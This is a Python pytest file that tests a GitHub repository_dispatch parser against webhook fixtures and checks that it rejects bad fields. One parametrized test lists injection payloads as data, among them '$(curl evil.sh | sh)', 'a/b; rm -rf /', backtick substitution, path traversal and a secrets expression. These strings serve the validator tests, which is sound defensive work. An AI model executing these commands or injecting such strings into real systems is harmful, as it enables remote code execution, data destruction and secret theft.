"""repository_dispatch receiver on real webhook payloads (octokit/webhooks fixtures)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from harness.github.events import DispatchError, parse_dispatch

from .conftest import TESTS

WEBHOOKS = TESTS / "fixtures" / "github-webhooks"
SHA = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"


def hook(name: str) -> dict:
    return json.loads((WEBHOOKS / name).read_text())


def relay(event_type: str, webhook: dict, **extra: str) -> dict:
    return {"action": event_type, "client_payload": {"payload": webhook, **extra}}


def test_compact_payload() -> None:
    req = parse_dispatch({"action": "upstream-pull-request", "client_payload": {
        "repo": "pytorch/executorch", "sha": SHA, "pr": "1234", "ref": "refs/pull/1234/head", "suites": ["ops", "models"],
        "recipes": "xnnpack,portable"}})
    assert req.outputs() == {"event_type": "upstream-pull-request", "repo": "pytorch/executorch", "sha": SHA, "pr": "1234",
                             "ref": "refs/pull/1234/head", "suites": "ops,models", "recipes": "xnnpack,portable"}


@pytest.mark.parametrize("name", ["pull_request.opened.payload.json", "pull_request.synchronize.payload.json",
                                  "pull_request.labeled.payload.json", "pull_request.opened.with-null-body.json",
                                  "pull_request.opened.fork.json"])
def test_relay_form_pull_request_webhooks(name: str) -> None:
    webhook = hook(name)
    req = parse_dispatch(relay("pull_request", webhook, recipes="xnnpack"))
    assert req.repo == webhook["repository"]["full_name"]
    assert req.sha == webhook["pull_request"]["head"]["sha"]
    assert req.pr == webhook["pull_request"]["number"] and req.ref == webhook["pull_request"]["head"]["ref"]
    assert req.recipes == "xnnpack"


@pytest.mark.parametrize("name", ["push.payload.json", "push.with-new-branch.payload.json"])
def test_relay_form_push_webhooks(name: str) -> None:
    webhook = hook(name)
    req = parse_dispatch(relay("push", webhook))
    assert req.sha == webhook["after"] and req.ref == webhook["ref"] and req.pr is None


def test_real_repository_dispatch_with_foreign_payload_is_rejected() -> None:
    with pytest.raises(DispatchError, match=r"client_payload: unknown key\(s\) integration, unit"):
        parse_dispatch(hook("repository_dispatch.payload.json"))


@pytest.mark.parametrize(("field", "value", "message"), [
    ("sha", "$(curl evil.sh | sh)", "client_payload.sha: expected 40 hex characters"),
    ("sha", SHA[:39], "client_payload.sha: expected 40 hex characters"),
    ("repo", "a/b; rm -rf /", "client_payload.repo: expected owner/name"),
    ("repo", "just-a-name", "client_payload.repo: expected owner/name"),
    ("pr", "12; ls", "client_payload.pr: expected a pull request number"),
    ("pr", True, "client_payload.pr: expected a pull request number"),
    ("ref", "main`id`", "client_payload.ref: expected a git ref"),
    ("ref", "a/../../etc", "client_payload.ref: expected a git ref"),
    ("suites", "ops,${{ secrets.X }}", "client_payload.suites: expected a comma-separated list"),
    ("recipes", "xnnpack\nEVIL=1", "client_payload.recipes: expected names"),
])
def test_injection_attempts_are_rejected(field: str, value: object, message: str) -> None:
    payload = {"repo": "pytorch/pytorch", "sha": SHA, field: value}
    with pytest.raises(DispatchError) as info:
        parse_dispatch({"action": "upstream-push", "client_payload": payload})
    assert str(info.value).startswith(message.split(":")[0])
    assert "\n" not in info.value.one_line()


def test_cli_event_dispatch_writes_outputs(bti, tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps(relay("pull_request", hook("pull_request.opened.payload.json"), suites="ops")))
    out = tmp_path / "out.txt"
    res = bti("event", "dispatch", "--event-path", str(event), "--github-output", str(out))
    assert res.code == 0, res.err
    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
    assert lines["suites"] == "ops" and len(lines["sha"]) == 40 and lines["pr"].isdigit()
    event.write_text(json.dumps({"action": "upstream-push", "client_payload": {"repo": "x/y", "sha": "zz"}}))
    bad = bti("event", "dispatch", "--event-path", str(event), "--github-output", str(out))
    assert bad.code == 2 and bad.err.strip() == "bti: error: client_payload.sha: expected 40 hex characters, got 'zz'"
